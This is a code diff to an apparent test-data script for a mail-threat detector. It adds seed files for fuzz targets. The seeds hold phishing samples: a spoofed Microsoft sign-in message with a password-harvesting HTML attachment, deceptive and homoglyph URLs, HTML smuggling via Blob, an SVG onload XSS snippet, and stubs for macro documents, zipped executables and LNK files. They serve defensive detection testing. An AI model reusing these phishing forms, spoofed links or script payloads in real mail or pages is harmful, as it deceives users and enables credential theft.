@@ -433,11 +433,105 @@ def main():
            (base64.b64encode(jis("打ち合わせ資料")).decode(), DATE)
            ).encode() + body.encode("euc_jp"), "clean")
 
+    seeds(docm, z, pdf, qr)
+
     with open(os.path.join(OUT, "expect.txt"), "w") as f:
         f.write("# file verdict rules...: written by tests/detect/mkdata.py"
                 "\n# (engine: own domain contoso.com, correspondent "
                 "fabrikam.com, person \"John Smith\")\n")
         f.write("\n".join(EXPECT) + "\n")
+
+
+def seeds(docm, zipexe, pdf, png):
+    """Seed corpora of the fuzz targets (tests/fuzz/corpus/detect_*)."""
+    import gzip
+    import json
+    import shutil
+    root = os.path.join(os.path.dirname(OUT), "..", "fuzz", "corpus")
+    d = os.path.join(root, "detect_mime")
+    os.makedirs(d, exist_ok=True)
+    for f in ("en-02-phish-microsoft", "en-06-zip-exe", "en-09-docm-macro",
+              "en-10-qr", "en-12-spoof-own", "ja-01-phish-amazon-iso2022jp",
+              "ja-02-bec-sjis", "ja-06-delivery-sjis-nocharset"):
+        shutil.copyfile(os.path.join(OUT, f + ".eml"),
+                        os.path.join(d, f + ".eml"))
+    d = os.path.join(root, "detect_graph")
+    os.makedirs(d, exist_ok=True)
+    msgs = [
+        {"subject": "Unusual sign-in",
+         "from": {"emailAddress": {"name": "Microsoft",
+                                   "address": "x@evil.top"}},
+         "replyTo": [{"emailAddress": {"address": "y@gmail.com"}}],
+         "toRecipients": [{"emailAddress": {"address": "t@contoso.com"}}],
+         "internetMessageHeaders": [{
+             "name": "Authentication-Results",
+             "value": "spf=fail smtp.mailfrom=contoso.com; dkim=none;"
+                      "dmarc=fail action=oreject header.from=contoso.com;"
+                      "compauth=fail reason=000"}],
+         "body": {"contentType": "html",
+                  "content": "<a href=\"https://micros0ft.com/x\">"
+                             "https://microsoft.com</a> verify your account"},
+         "hasAttachments": True,
+         "attachments": [{
+             "@odata.type": "#microsoft.graph.fileAttachment",
+             "name": "a.html", "contentType": "text/html",
+             "isInline": False,
+             "contentBytes": base64.b64encode(
+                 b"<form action='https://e.top/p.php'>"
+                 b"<input type=password></form>").decode()}]},
+        {"subject": "至急", "hasAttachments": False,
+         "body": {"contentType": "text",
+                  "content": "振込先の変更 https://example.com"}},
+        {"hasAttachments": True, "attachments": [{
+            "@odata.type": "#microsoft.graph.itemAttachment",
+            "name": "fwd"}]},
+    ]
+    for i, m in enumerate(msgs):
+        with open(os.path.join(d, "seed%d.json" % i), "w") as f:
+            f.write(json.dumps(m, ensure_ascii=False))
+    d = os.path.join(root, "detect_url")
+    os.makedirs(d, exist_ok=True)
+    urls = [
+        "HTTPS://WWW.Example.COM/a?b=1#c", "http:\\\\evil.example.co.uk\\p",
+        "http://3232235777/x", "http://0xC0.0xA8.1.1/",
+        "https://www.paypal.com@evil.example.net/", "https://例え.jp/",
+        "https://p\u0430ypal.com/",
+        "see https://a.example.com/x, (https://b.example.com/y) "
+        "詳しくはhttps://c.example.jp/を",
+        "https://www.google.com/url?q=https%3A%2F%2Fevil.example.net%2F",
+        "data:text/html;base64,PGh0bWw+", "hxxps://bad.example.com",
+    ]
+    for i, u in enumerate(urls):
+        with open(os.path.join(d, "seed%d.txt" % i), "w") as f:
+            f.write(u)
+    d = os.path.join(root, "detect_html")
+    os.makedirs(d, exist_ok=True)
+    pages = [
+        "\x00<html><a href=\"https://x.example.com\">https://paypal.com</a>"
+        "<div style=\"display:none\">h</div></html>",
+        "\x02<form action=https://e.top/p.php><input type=password name=p>"
+        "</form><meta http-equiv=refresh content=\"0;url=https://r.ex\">",
+        "\x01<script>var d=atob('QUJD');var b=new Blob([d]);"
+        "URL.createObjectURL(b);location.href='https://x.example'</script>",
+        "\x03<svg onload=alert(1)><foreignObject><a xlink:href=\"javascript:x"
+        "\">x</a></foreignObject></svg>",
+        "\x04<p style='font-size:0'>&#x41;&amp;&nbsp;&#99999999;<!-- c -->",
+    ]
+    for i, h in enumerate(pages):
+        with open(os.path.join(d, "seed%d.html" % i), "wb") as f:
+            f.write(h.encode())
+    d = os.path.join(root, "detect_archive")
+    os.makedirs(d, exist_ok=True)
+    blobs = {
+        "docm.zip": docm, "exe.zip": zipexe, "js.pdf": pdf, "qr.png": png,
+        "nested.zip": zipbytes([("inner.zip", zipexe)]),
+        "text.gz": gzip.compress(b"hello https://x.example.com", mtime=0),
+        "page.html": b"<form><input type=password></form>",
+        "lnk.bin": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 68,
+    }
+    for name, data in blobs.items():
+        with open(os.path.join(d, name), "wb") as f:
+            f.write(data)
 
 
 if __name__ == "__main__":
